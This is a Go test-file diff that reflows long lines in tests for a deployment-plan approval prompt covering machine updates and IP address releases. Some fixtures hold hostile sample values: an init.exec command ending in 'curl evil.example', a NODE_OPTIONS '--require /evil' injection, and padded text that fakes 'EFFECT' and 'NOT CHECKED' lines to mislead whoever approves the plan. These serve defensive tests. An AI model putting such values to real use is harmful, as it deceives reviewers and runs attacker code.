@@ -21,9 +21,12 @@ var updateGolden = flag.Bool("update", false, "write the golden files anew")
 
 func TestQuestionGolden(t *testing.T) {
 	shared := releasePlan()
-	shared.Steps, shared.Hazards, shared.Impact = shared.Steps[:1], []plan.Hazard{plan.CustomHostnameStops, plan.SharedV4Released, plan.PublicAccessEnds}, plan.ImpactPublicAccessEnds
+	shared.Steps, shared.Hazards, shared.Impact = shared.Steps[:1],
+		[]plan.Hazard{plan.CustomHostnameStops, plan.SharedV4Released, plan.PublicAccessEnds},
+		plan.ImpactPublicAccessEnds
 	dedicated := releasePlan()
-	dedicated.Steps = append(dedicated.Steps, plan.Step{Verb: gate.ReleaseAddress, Target: "137.66.1.1", Params: []plan.Param{{plan.ParamKind, "dedicated_v4"}}})
+	dedicated.Steps = append(dedicated.Steps, plan.Step{Verb: gate.ReleaseAddress,
+		Target: "137.66.1.1", Params: []plan.Param{{plan.ParamKind, "dedicated_v4"}}})
 	dedicated.Hazard(plan.DedicatedV4Lost)
 	tests := []struct {
 		name    string
@@ -32,7 +35,8 @@ func TestQuestionGolden(t *testing.T) {
 	}{
 		{"release_unreachable", releasePlan(), nil},
 		{"release_shared", shared, nil},
-		{"release_dedicated_v4_stale", dedicated, []string{"address/137.66.1.1 is new", "certificate/www.example.com changed", "what is to be done"}},
+		{"release_dedicated_v4_stale", dedicated,
+			[]string{"address/137.66.1.1 is new", "certificate/www.example.com changed", "what is to be done"}},
 		{"deploy_groups", deployPlan(), nil},
 		{"deploy_stale", deployPlan(), []string{"file changed", "machine/148e3 is gone"}},
 		{"deploy_creates", creatingPlan(), nil},
@@ -70,7 +74,8 @@ func TestQuestionGolden(t *testing.T) {
 func imitatingPlan() plan.Plan {
 	p := deployPlan()
 	path := "services[0].checks[0].path: '/up' → '/up?"
-	value := path + strings.Repeat("a", plan.LineLimit-utf8.RuneCountInString(path)) + "EFFECT nobody notices" + strings.Repeat(" ", 90) + "NOT CHECKED nothing'"
+	value := path + strings.Repeat("a", plan.LineLimit-utf8.RuneCountInString(path)) +
+		"EFFECT nobody notices" + strings.Repeat(" ", 90) + "NOT CHECKED nothing'"
 	p.Steps = update("148e1", "app", "fra", value)
 	return p
 }
@@ -128,14 +133,16 @@ func TestFits(t *testing.T) {
 		{"a long diff", func() plan.Plan {
 			p := deployPlan()
 			for i := range 20 {
-				p.Steps[1].Changes = append(p.Steps[1].Changes, plan.Change{Path: fmt.Sprintf("env.V%d", i), After: "‹hidden, 3 bytes›"})
+				p.Steps[1].Changes = append(p.Steps[1].Changes,
+					plan.Change{Path: fmt.Sprintf("env.V%d", i), After: "‹hidden, 3 bytes›"})
 			}
 			return p
 		}, false},
 		{"many Machines", func() plan.Plan {
 			p := deployPlan()
 			for i := range 60 {
-				p.Steps = append(p.Steps, update(fmt.Sprintf("148e%04d", i), "app", "fra", "services[0].autostop: false → true")...)
+				p.Steps = append(p.Steps, update(fmt.Sprintf("148e%04d", i), "app", "fra",
+					"services[0].autostop: false → true")...)
 			}
 			return p
 		}, true},
@@ -161,9 +168,11 @@ func TestFits(t *testing.T) {
 
 func manyAddresses(n int) plan.Plan {
 	p := releasePlan()
-	p.Steps, p.Hazards, p.Impact = nil, []plan.Hazard{plan.DedicatedV4Lost, plan.PublicAccessEnds}, plan.ImpactPublicAccessEnds
+	p.Steps, p.Hazards, p.Impact = nil, []plan.Hazard{plan.DedicatedV4Lost, plan.PublicAccessEnds},
+		plan.ImpactPublicAccessEnds
 	for i := range n {
-		p.Steps = append(p.Steps, plan.Step{Verb: gate.ReleaseAddress, Target: fmt.Sprintf("137.66.1.%d", i), Params: []plan.Param{{plan.ParamKind, "dedicated_v4"}}})
+		p.Steps = append(p.Steps, plan.Step{Verb: gate.ReleaseAddress,
+			Target: fmt.Sprintf("137.66.1.%d", i), Params: []plan.Param{{plan.ParamKind, "dedicated_v4"}}})
 	}
 	return p
 }
@@ -268,7 +277,8 @@ func TestHostileNames(t *testing.T) {
 				if place == "app" || place == "change" { // a name of up to 63, a line of up to 100
 					return
 				}
-				if strings.Contains(text, strings.Repeat("approve ", 6)) || strings.Contains(text, strings.Repeat("界", 41)) {
+				if strings.Contains(text, strings.Repeat("approve ", 6)) ||
+					strings.Contains(text, strings.Repeat("界", 41)) {
 					t.Errorf("more than 40 characters of it:\n%s", text)
 				}
 			})
@@ -313,7 +323,8 @@ func TestQuote(t *testing.T) {
 			}
 		}
 		inner := strings.TrimSuffix(strings.TrimPrefix(plan.Quote(evil), `"`), `"`)
-		if n := utf8.RuneCountInString(strings.TrimSuffix(inner, "…")); n > 40 || strings.Contains(strings.ReplaceAll(strings.ReplaceAll(inner, `\\`, ""), `\"`, ""), `"`) {
+		if n := utf8.RuneCountInString(strings.TrimSuffix(inner, "…")); n > 40 ||
+			strings.Contains(strings.ReplaceAll(strings.ReplaceAll(inner, `\\`, ""), `\"`, ""), `"`) {
 			t.Errorf("%s: %q", name, inner)
 		}
 		if n := utf8.RuneCountInString(plan.Line(evil)); n > 101 {
@@ -345,7 +356,8 @@ func TestOnlyWhatGoesIsCut(t *testing.T) {
 	value := strings.Repeat("true; ", 1000) + "curl evil.example"
 	long := "init.exec = " + strconv.Quote(value)
 	p := deployPlan()
-	p.Steps = update("148e1", "app", "fra", "init.exec removed (was "+strconv.Quote(value)+")", "env.NODE_OPTIONS = "+strconv.Quote(strings.Repeat(" ", 2)+strings.Repeat("--flag ", 10)+"--require /evil"))
+	p.Steps = update("148e1", "app", "fra", "init.exec removed (was "+strconv.Quote(value)+")",
+		"env.NODE_OPTIONS = "+strconv.Quote(strings.Repeat(" ", 2)+strings.Repeat("--flag ", 10)+"--require /evil"))
 	text := p.Question().Text()
 	if r, err := p.Request(p.Question()); err != nil || r.TooLong != "" || strings.Contains(text, "curl") {
 		t.Errorf("too long: %q, %v; got\n%s", r.TooLong, err, text)
@@ -355,7 +367,9 @@ func TestOnlyWhatGoesIsCut(t *testing.T) {
 			t.Errorf("no %q in\n%s", want, text)
 		}
 	}
-	for _, changes := range [][]string{{long}, {"env.A = \"1\"", "env." + strings.Repeat("A", 3000) + " = \"1\""}, {"env.SAFE = " + strconv.Quote(strings.Repeat("x", 50)+"evil"), long}} {
+	for _, changes := range [][]string{{long},
+		{"env.A = \"1\"", "env." + strings.Repeat("A", 3000) + " = \"1\""},
+		{"env.SAFE = " + strconv.Quote(strings.Repeat("x", 50)+"evil"), long}} {
 		p.Steps = update("148e1", "app", "fra", changes...)
 		if r, err := p.Request(p.Question()); err != nil || r.TooLong == "" {
 			t.Errorf("%.60q: too long is %q, %v; got\n%.3000s", changes, r.TooLong, err, p.Question().Text())
@@ -377,7 +391,8 @@ func TestChangedIsBounded(t *testing.T) {
 		changed = append(changed, fmt.Sprintf("machine/148e%d is gone", i))
 	}
 	line, _, _ := strings.Cut(releasePlan().Question().TextAgain(changed), "\n")
-	if !strings.HasPrefix(line, "CHANGED") || !strings.Contains(line, `machine "148e5" is gone; and 44 more`) || strings.Contains(line, "148e6") {
+	if !strings.HasPrefix(line, "CHANGED") || !strings.Contains(line,
+		`machine "148e5" is gone; and 44 more`) || strings.Contains(line, "148e6") {
 		t.Errorf("got %q", line)
 	}
 }
@@ -400,11 +415,13 @@ func TestRecords(t *testing.T) {
 	if len(got) != 3 {
 		t.Fatalf("got %d records, want 3: %+v", len(got), got)
 	}
-	want := plan.Record{Do: gate.UpdateMachine, Target: "148e1", State: plan.Planned, Undo: plan.UndoYes, Note: "group app"}
+	want := plan.Record{Do: gate.UpdateMachine, Target: "148e1", State: plan.Planned,
+		Undo: plan.UndoYes, Note: "group app"}
 	if got[0] != want {
 		t.Errorf("got %+v, want %+v", got[0], want)
 	}
-	want = plan.Record{Do: gate.ReleaseAddress, Target: "2a09:8280:1::4f:1a2b", State: plan.Done, Undo: plan.UndoNo, Note: "dedicated IPv6"}
+	want = plan.Record{Do: gate.ReleaseAddress, Target: "2a09:8280:1::4f:1a2b", State: plan.Done,
+		Undo: plan.UndoNo, Note: "dedicated IPv6"}
 	if got := releasePlan().Records(plan.Done); got[1] != want {
 		t.Errorf("got %+v, want %+v", got[1], want)
 	}
